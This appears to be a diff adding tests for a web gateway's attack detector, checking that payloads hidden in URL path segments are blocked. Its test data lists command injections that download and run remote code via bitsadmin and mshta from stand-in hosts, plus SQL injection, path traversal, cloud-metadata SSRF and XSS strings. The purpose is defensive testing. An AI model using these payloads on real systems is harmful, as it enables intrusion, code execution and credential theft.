@@ -237,3 +237,50 @@ def test_sql_and_shell_look_alikes_pass(engine: DetectionEngine, text: str) -> N
     """Function-like words in prose ("and right (carefully)"), Python and JavaScript
     operators, SELECT ... FROM in English, a leading ';' in an ini file: not injections."""
     passes_everywhere(engine, text)
+
+
+# ------------------------------------------------------------- 4. payloads in a path segment
+def path_with(payload: str) -> str:
+    """``payload`` as one segment of a path the gateway's target parser accepts: characters
+    a path may not carry are escaped, its own slashes are not (an encoded slash is refused)."""
+    from bastion.routing.target import normalize_target
+
+    target = "/v1/files/" + quote(payload, safe="/-._~!$&'()*+,;=:@") + "/meta"
+    normalize_target(target.encode())  # raises if the gateway would refuse it with 400
+    return target
+
+
+@pytest.mark.parametrize(
+    ("payload", "category"),
+    [
+        ("; bitsadmin /transfer j http://files.example.net/a.exe", "cmdi"),
+        ("&& mshta http://x.example/a.hta", "cmdi"),
+        ("|| /usr/local/bin/php -r phpinfo();", "cmdi"),
+        ("1 or hex(database())>0", "sqli"),
+        ("' union select password from users/*", "sqli"),
+        ("..;/..;/manager/html", "path_traversal"),
+        ("http://169.254.169.254/latest/meta-data/", "ssrf"),
+        ("<svg/onload=alert(document.domain)>", "xss"),
+    ],
+)
+def test_path_segment_is_inspected_as_strongly_as_a_query_value(
+    engine: DetectionEngine, payload: str, category: str
+) -> None:
+    """An attack placed in a path segment, with its own slashes splitting it across
+    segments, is blocked as it is in a query value: the rest of the path from the segment
+    where it starts is an input too, so rules anchored at the start of a value see it."""
+    query = engine.evaluate(make_request("/v1/files?name=" + quote(payload, safe="")))
+    path = engine.evaluate(make_request(path_with(payload)))
+    assert query.block_category == category, query.log_record()
+    assert path.block_category == category, (path_with(payload), path.log_record())
+
+
+def test_plain_api_paths_add_no_inputs() -> None:
+    """A path of names and IDs has its whole and its segments as inputs, nothing more; a
+    segment with payload characters adds the path from there (named ``path:N..``)."""
+    from bastion.stages.detection.inspect import extract
+
+    plain = [i.location for i in extract(make_request("/v1/users/42/orders/7f3a-b2")) if i.location.startswith("path")]
+    assert plain == ["path", "path:0", "path:1", "path:2", "path:3", "path:4"]
+    odd = [(i.location, i.value) for i in extract(make_request("/v1/x/;%20ls/tmp/y"))]
+    assert ("path:2..", ";%20ls/tmp/y") in odd
